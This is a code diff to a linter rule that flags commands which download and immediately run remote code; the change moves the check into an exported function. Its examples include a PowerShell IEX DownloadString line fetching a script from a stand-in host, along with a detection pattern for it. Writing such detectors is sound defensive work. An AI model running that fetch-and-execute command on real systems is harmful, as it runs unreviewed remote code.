@@ -1,5 +1,5 @@
 import { anyWord, isWarnedAgainst } from './content-words.js';
-import { defineRule, type TextRange } from './rule.js';
+import { defineRule, type Problem, type TextRange } from './rule.js';
 
 const DOWNLOADERS = [
   'curl',
@@ -98,17 +98,20 @@ export default defineRule({
     "Decoded: IEX (New-Object Net.WebClient).DownloadString('hxxp://bad[.]example/p.ps1')",
     'CommandLine contains: "IEX" AND ("Net.WebClient" OR "DownloadString")',
   ],
-  check({ text }, report) {
-    for (const { command, start, end } of findDownloads(text)) {
-      if (isWarnedAgainst(text, start) || ATTACK.test(lineFrom(text, start))) continue;
-      report({
-        at: { start, end },
-        message: `\`${command}\` runs whatever the server sends, unreviewed.`,
-        fix: 'Download a pinned version to a file, verify its checksum, then run it; or use a package manager.',
-      });
-    }
-  },
+  check: ({ text }, report) => reportDownloads(text, report),
 });
+
+/** Reports the downloads that a skill or a script runs in the same step. */
+export function reportDownloads(text: string, report: (problem: Problem) => void): void {
+  for (const { command, start, end } of findDownloads(text)) {
+    if (isWarnedAgainst(text, start) || ATTACK.test(lineFrom(text, start))) continue;
+    report({
+      at: { start, end },
+      message: `\`${command}\` runs whatever the server sends, unreviewed.`,
+      fix: 'Download a pinned version to a file, verify its checksum, then run it; or use a package manager.',
+    });
+  }
+}
 
 /** A command that downloads and runs something; `command` names only its two ends. */
 interface Download extends TextRange {
